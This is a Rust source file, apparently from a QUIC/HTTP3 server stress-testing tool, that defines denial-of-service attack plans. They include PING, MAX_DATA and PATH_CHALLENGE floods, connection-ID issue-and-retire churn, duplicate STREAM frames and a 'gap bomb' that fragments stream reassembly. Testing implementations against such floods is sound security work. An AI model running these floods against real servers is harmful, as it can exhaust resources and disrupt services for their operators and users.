//! QUIC frames that are valid, repeated at full speed and without use to either end.

use courser_crypto::Space;
use courser_wire::frame::PathChallenge;
use courser_wire::{ConnectionId, Frame, MaxData, NewConnectionId, RetireConnectionId};

use crate::attack::{Expect, Plan, Victim};
use crate::encode;
use crate::http;

use super::{Crowd, crowd};

pub(super) const PING_FLOOD: Plan = Plan {
    name: "ping-flood",
    labels: &["A33"],
    summary: "packets with one PING frame each",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(Crowd::of_packets(2, 32, |_, _| vec![encode(&Frame::Ping)])),
};

pub(super) const MAX_DATA_FLOOD: Plan = Plan {
    name: "max-data-flood",
    labels: &["A28", "A33"],
    summary: "packets full of MAX_DATA frames with obsolete limits",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        let frame = encode(&Frame::MaxData(MaxData { limit: 1 }));
        Box::new(Crowd::of_packets(2, 16, move |_, _| {
            vec![frame.repeat(300)]
        }))
    },
};

pub(super) const PATH_CHALLENGE_FLOOD: Plan = Plan {
    name: "path-challenge-flood",
    labels: &["A32"],
    summary: "packets full of PATH_CHALLENGE frames",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        Box::new(Crowd::of_packets(2, 8, |connection, _| {
            let challenges = std::iter::repeat_with(|| {
                let data = connection.rng().array();
                encode(&Frame::PathChallenge(PathChallenge { data }))
            });
            challenges.take(100).collect()
        }))
    },
};

pub(super) const NEW_CONNECTION_ID_FLOOD: Plan = Plan {
    name: "new-connection-id-flood",
    labels: &["A30"],
    summary: "NEW_CONNECTION_ID frames each of which retires all earlier ones",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        Box::new(Crowd::of_packets(2, 8, |connection, progress| {
            let frames = std::iter::repeat_with(|| {
                progress.streams += 1;
                // The prefix of the ID assigns received packets to the connection.
                let mut id = connection.rng().array::<8>();
                id[..4].copy_from_slice(&connection.local_id()[..4]);
                encode(&Frame::NewConnectionId(NewConnectionId {
                    sequence: progress.streams,
                    retire_prior_to: progress.streams,
                    id: ConnectionId::new(&id).expect("eight bytes fit"),
                    reset_token: connection.rng().array(),
                }))
            });
            frames.take(30).collect()
        }))
    },
};

pub(super) const RETIRE_FLOOD: Plan = Plan {
    name: "retire-flood",
    labels: &["A30", "A31"],
    summary: "retires each connection ID as soon as it is issued, and does so repeatedly",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(retire_flood()),
};

fn retire_flood() -> Crowd {
    Crowd::new(2, |connection, progress, now| {
        // A packet must not retire its own Destination Connection ID, so the newest one is kept.
        let issued = connection.seen().issued.iter();
        let newest = issued.max_by_key(|(sequence, _)| *sequence);
        let Some((newest, id)) = newest.copied() else {
            return;
        };
        connection.set_peer_id(id);
        let from = progress.offset.min(newest);
        progress.offset = newest;
        for sequence in (from..newest).chain(newest.saturating_sub(20)..newest) {
            let frame = encode(&Frame::RetireConnectionId(RetireConnectionId { sequence }));
            connection.send_packet(now, Space::Application, vec![frame]);
        }
    })
}

pub(super) const DUPLICATE_STREAM: Plan = Plan {
    name: "duplicate-stream",
    labels: &["A33", "A35"],
    summary: "STREAM frames that repeat the same byte, a hundred in each packet",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        let frame = http::stream(http::uni_stream(0), 0, &[0], false);
        let crowd = Crowd::of_packets(2, 16, move |_, _| vec![frame.repeat(100)]);
        Box::new(crowd.with_setup(crowd::preface))
    },
};

pub(super) const GAP_BOMB: Plan = Plan {
    name: "gap-bomb",
    labels: &["A26"],
    summary: "one byte at every second offset of 64 request streams",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(gap_bomb()),
};

fn gap_bomb() -> Crowd {
    // The streams take turns.
    const STREAMS: u64 = 64;
    // Offsets stay within the flow control limits of every receiver. The limit is even, so that offsets stay odd.
    const WINDOW: u64 = 8192;
    Crowd::of_packets(2, 16, |_, progress| {
        let first = progress.streams;
        progress.streams += 100;
        let frames = (first..progress.streams).map(|number| {
            let id = http::request_stream(number % STREAMS);
            let offset = 1 + 2 * (number / STREAMS);
            http::stream(id, offset % WINDOW, &[0], false)
        });
        frames.collect()
    })
}
